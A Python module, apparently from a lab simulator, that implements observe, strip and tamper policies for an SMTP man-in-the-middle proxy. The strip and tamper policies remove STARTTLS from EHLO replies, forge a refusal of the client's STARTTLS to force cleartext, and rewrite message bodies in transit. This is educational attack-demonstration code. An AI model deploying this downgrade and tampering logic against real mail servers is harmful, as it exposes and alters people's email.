"""What the attacker does to a session: three small policies the proxy (:mod:`.proxy`) calls.

- :class:`Observe` reads along and changes nothing;
- :class:`Strip` deletes STARTTLS from the EHLO reply and answers the client's STARTTLS itself with
  ``502 5.5.1 Error: command not implemented`` (what Postfix 3.7 says at level ``none``, from the one reply
  table in :mod:`labsim.sim.replies`): a client at ``may`` goes on in clear;
- :class:`Tamper` may strip too, and rewrites text in the message body in transit.

A policy sees plaintext only: once TLS starts the proxy relays bytes and no policy is asked again.
``log(who, text)`` writes a transcript line (``C``, ``S`` or ``MITM``).
"""

from __future__ import annotations

from collections.abc import Callable

from ..sim import replies

Log = Callable[[str, str], None]

#: The reply of a server without TLS to STARTTLS: what the stripper forges.
STARTTLS_REFUSED = replies.NOT_IMPLEMENTED.encode() + b"\r\n"


def show(data: bytes) -> str:
    """A protocol line as transcript text (no line end; undecodable bytes escaped)."""
    return data.rstrip(b"\r\n").decode("utf-8", "backslashreplace")


class Observe:
    """Read along: every hook leaves the session as it is."""

    name = "observe"
    strips = False

    def client_starttls(self, log: Log) -> bytes | None:
        """The client sent STARTTLS: bytes to answer it with instead of the server, or None to relay it."""
        return None

    def ehlo_reply(self, reply: list[bytes], log: Log) -> list[bytes] | None:
        """A multiline 250 reply from the server: the lines to relay instead, or None to relay it as it is."""
        return None

    def data_line(self, line: bytes, log: Log) -> bytes:
        """A line of the message (between DATA's 354 and the final dot): the line to relay."""
        return line


class Strip(Observe):
    """Remove STARTTLS from the EHLO reply, and refuse a STARTTLS the client sends anyway."""

    name = "strip"
    strips = True

    def client_starttls(self, log: Log) -> bytes | None:
        log("MITM", "STARTTLS held back; the attacker answers as a server without TLS would")
        log("S", show(STARTTLS_REFUSED) + "   (forged by the attacker)")
        return STARTTLS_REFUSED

    def ehlo_reply(self, reply: list[bytes], log: Log) -> list[bytes] | None:
        kept = [ln for ln in reply if ln[4:].strip().upper() != b"STARTTLS"]
        if len(kept) == len(reply):
            return None
        for ln in reply:
            log("S", show(ln))
        gone = ", ".join(repr(show(ln)) for ln in reply if ln not in kept)
        # Well-formed again: "250-" on every line but the last, "250 " on the last.
        last = kept[-1][:3] + b" " + kept[-1][4:]
        note = f"STRIPPED: deleted {gone} from the EHLO reply before relaying it"
        if last != kept[-1]:
            note += f"; {show(kept[-1])!r} became {show(last)!r}, the new last line"
        log("MITM", note)
        return [ln[:3] + b"-" + ln[4:] for ln in kept[:-1]] + [last]


class Tamper(Strip):
    """Rewrite ``find`` as ``replace`` in the message body; strips STARTTLS unless told not to (a tamperer
    that lets TLS start can change nothing)."""

    name = "tamper"

    def __init__(self, find: bytes, replace: bytes, strip: bool = True) -> None:
        self.find, self.replace, self.strips = find, replace, strip

    def client_starttls(self, log: Log) -> bytes | None:
        return super().client_starttls(log) if self.strips else None

    def ehlo_reply(self, reply: list[bytes], log: Log) -> list[bytes] | None:
        return super().ehlo_reply(reply, log) if self.strips else None

    def data_line(self, line: bytes, log: Log) -> bytes:
        if not self.find or self.find not in line:
            return line
        new = line.replace(self.find, self.replace)
        log("MITM", f"TAMPERED: {show(line)!r} -> {show(new)!r}")
        return new


MODES = ("observe", "strip", "tamper")


def policy_for(mode: str, find: bytes = b"", replace: bytes = b"", strip: bool | None = None) -> Observe:
    """The policy of a mode. ``strip`` (default: as the mode says) makes an observer strip, or a tamperer not."""
    if mode == "tamper":
        return Tamper(find, replace, True if strip is None else strip)
    if mode == "strip" and strip is not False or mode == "observe" and strip:
        return Strip()
    return Observe()
